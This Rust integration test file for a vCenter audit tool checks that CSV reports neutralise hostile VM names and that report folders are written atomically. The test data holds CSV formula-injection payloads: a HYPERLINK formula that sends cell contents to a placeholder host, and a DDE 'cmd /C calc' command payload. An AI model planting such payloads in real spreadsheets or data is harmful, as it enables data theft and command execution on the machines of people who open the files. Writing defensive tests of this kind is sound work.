//! Hostile input in, safe reports out (issue 11), through the binary against vcsim: VM names that
//! a spreadsheet would run as formulas, names that could break CSV rows, and report folders that
//! are written all or nothing, by one run at a time.

mod support;

use serde_json::Value;
use support::{PASSWORD, Sim, Table, compare_inventory, text_cell, vcaudit};

const TABLES: [&str; 7] = [
    "vcenters",
    "hosts",
    "vms",
    "disks",
    "datastores",
    "findings",
    "summary",
];

/// The names `-hostile-names` gives (tests/vcsim/hostile.go), plus the scenario's own.
const HOSTILE: [&str; 7] = [
    r#"=HYPERLINK("http://x/?"&A1,"open")"#,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+x",
    "\tTAB-01",
    "\rCR-01",
    "line\nbreak, \"quoted\"\r\nend",
    "-leading-hyphen",
];

#[test]
fn hostile_names_are_inert_in_csv_and_raw_in_json() {
    let sim = Sim::start("audit", &["-hostile-names"]);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().to_str().unwrap();
    let run = vcaudit(
        &sim.args(
            "audit",
            &["--out", out, "--format", "csv,json", "--fail-on", "never"],
        ),
        Some(PASSWORD),
    );
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);

    // Every row survives (CR, LF, quotes and commas stay inside their cells) and every column
    // equals the simulator's, text cells formula-safe.
    let check = compare_inventory(dir.path(), sim.server(), sim.expected());
    assert!(check.diffs.is_empty(), "{}", check.diffs.join("\n"));
    let vms = Table::read(&dir.path().join("vms.csv"));
    assert_eq!(vms.rows.len(), check.vms, "one vms.csv row per VM");
    let names: Vec<&str> = vms.rows.iter().map(|r| r["vm"].as_str()).collect();
    for raw in HOSTILE {
        assert!(
            names.contains(&text_cell(raw).as_str()),
            "{raw:?} as {:?} in vms.csv: {names:?}",
            text_cell(raw)
        );
    }
    assert!(names.contains(&"'-leading-hyphen"));
    assert!(
        names.contains(&"line\nbreak, \"quoted\"\r\nend"),
        "not a trigger: unchanged"
    );

    // No text cell of any CSV can start a formula.
    for t in TABLES {
        for row in Table::read(&dir.path().join(format!("{t}.csv"))).rows {
            for (col, v) in &row {
                assert!(
                    !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{t}.csv {col} = {v:?}"
                );
            }
        }
    }

    // Findings still name the VMs, formula-safe.
    let findings = Table::read(&dir.path().join("findings.csv"));
    assert!(
        findings
            .rows
            .iter()
            .any(|f| f["object"] == "'-leading-hyphen" && f["rule"] == "vm-name"),
        "the vm-name finding names '-leading-hyphen"
    );

    // report.json keeps the raw names.
    let doc: Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
    let json_names: Vec<&str> = doc["vms"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["vm"].as_str().unwrap())
        .collect();
    assert_eq!(json_names.len(), check.vms);
    for raw in HOSTILE {
        assert!(json_names.contains(&raw), "{raw:?} raw in report.json");
    }
}

fn listing(dir: &std::path::Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn report_folders_are_all_or_nothing() {
    let sim = Sim::audit();
    let top = tempfile::tempdir().unwrap();
    let outp = top.path().join("r");
    let out = outp.to_str().unwrap();
    let audit = |format: &str| {
        vcaudit(
            &sim.args(
                "audit",
                &["--out", out, "--format", format, "--fail-on", "never"],
            ),
            Some(PASSWORD),
        )
    };

    let run = audit("csv,json");
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(outp.join("report.json").exists());
    // A run asking for CSV only removes the previous report.json: never two runs mixed.
    let run = audit("csv");
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut want: Vec<String> = TABLES.iter().map(|t| format!("{t}.csv")).collect();
    want.sort();
    assert_eq!(
        listing(&outp),
        want,
        "only this run's files, no lock or staging left"
    );
    assert_eq!(
        listing(top.path()),
        vec!["r".to_string()],
        "no staging folder left"
    );

    // A folder where a report file should be: the run fails and the previous reports stay
    // exactly as they were.
    let before: Vec<(String, Vec<u8>)> = want
        .iter()
        .filter(|n| *n != "disks.csv")
        .map(|n| (n.clone(), std::fs::read(outp.join(n)).unwrap()))
        .collect();
    std::fs::remove_file(outp.join("disks.csv")).unwrap();
    std::fs::create_dir(outp.join("disks.csv")).unwrap();
    std::fs::write(outp.join("disks.csv/keep"), "x").unwrap();
    let run = audit("csv,json");
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("disks.csv"), "{}", run.stderr);
    for (n, bytes) in &before {
        assert_eq!(
            &std::fs::read(outp.join(n)).unwrap(),
            bytes,
            "{n} unchanged"
        );
    }
    assert!(
        !outp.join("report.json").exists(),
        "nothing of the failed run"
    );
    assert_eq!(
        listing(top.path()),
        vec!["r".to_string()],
        "no staging folder left"
    );
}

#[test]
fn a_busy_or_unwritable_output_fails_before_login() {
    let sim = Sim::audit();
    let top = tempfile::tempdir().unwrap();
    let outp = top.path().join("r");

    // Another run holds the folder.
    let lock = vcaudit::report::OutputLock::acquire(&outp).unwrap();
    let run = vcaudit(
        &sim.args("audit", &["--out", outp.to_str().unwrap()]),
        Some(PASSWORD),
    );
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert_eq!(run.stderr.trim().lines().count(), 1, "{}", run.stderr);
    assert!(run.stderr.contains("another vcaudit run"), "{}", run.stderr);
    drop(lock);

    // --out is a file; --save-snapshot is in a missing folder or is a folder.
    let file = top.path().join("a-file");
    std::fs::write(&file, "x").unwrap();
    let missing = top.path().join("no/such/dir/s.json");
    for extra in [
        vec!["--out", file.to_str().unwrap()],
        vec![
            "--out",
            outp.to_str().unwrap(),
            "--save-snapshot",
            missing.to_str().unwrap(),
        ],
        vec![
            "--out",
            outp.to_str().unwrap(),
            "--save-snapshot",
            top.path().to_str().unwrap(),
        ],
    ] {
        let run = vcaudit(&sim.args("audit", &extra), Some(PASSWORD));
        assert_eq!(run.code, 2, "{extra:?}: {}", run.stderr);
        assert_eq!(run.stderr.trim().lines().count(), 1, "{}", run.stderr);
    }
    let run = vcaudit(
        &sim.args("collect", &["--snapshot", missing.to_str().unwrap()]),
        Some(PASSWORD),
    );
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("s.json"), "{}", run.stderr);

    let stats = sim.stop();
    assert_eq!(
        stats["requests"]["sdk"], 0,
        "no login was attempted: {stats}"
    );
}
